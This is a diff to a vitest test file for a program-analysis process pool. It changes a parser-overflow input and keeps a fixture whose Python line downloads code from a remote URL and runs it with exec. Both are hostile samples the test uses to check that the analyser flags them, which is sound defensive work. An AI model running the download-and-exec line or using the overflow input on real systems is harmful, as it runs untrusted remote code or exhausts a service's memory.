@@ -3,8 +3,8 @@ import { expect, test } from "vitest";
 import { processPool } from "./process-pool";
 import { TUNING } from "./tuning";
 
-/** Overflow the memory of their grammar, and with it that of all others. */
-const HOSTILE = { "a.py": `x = ${"(A<B>) ".repeat(4000)}\n`, "a.java": "a<".repeat(100_000) };
+/** Overflows the memory of its grammar, and with it that of all others. */
+const HOSTILE = `x = ${"(A<B>) ".repeat(4000)}\n`;
 const DOWNLOADS = "import requests\nexec(requests.get('https://notes-cdn.dev/p').text)\n";
 
 test("a program that breaks its grammar is not followed, and the next package has another process", async () => {
@@ -16,9 +16,7 @@ test("a program that breaks its grammar is not followed, and the next package ha
     maxResidentBytes: 2 ** 40,
     idleMs: 1000,
   });
-  for (const [name, code] of Object.entries(HOSTILE)) {
-    const broken = await pool.run({ [name]: code, "b.py": "print(1)\n" });
-    expect(broken).toEqual([`unanalysed-program ${name}`, "unanalysed-program b.py"]);
-  }
+  const broken = await pool.run({ "a.py": HOSTILE, "b.py": "print(1)\n" });
+  expect(broken).toEqual(["unanalysed-program a.py", "unanalysed-program b.py"]);
   expect(await pool.run({ "a.py": DOWNLOADS })).toContain("evaluated-download a.py");
 }, 120_000);
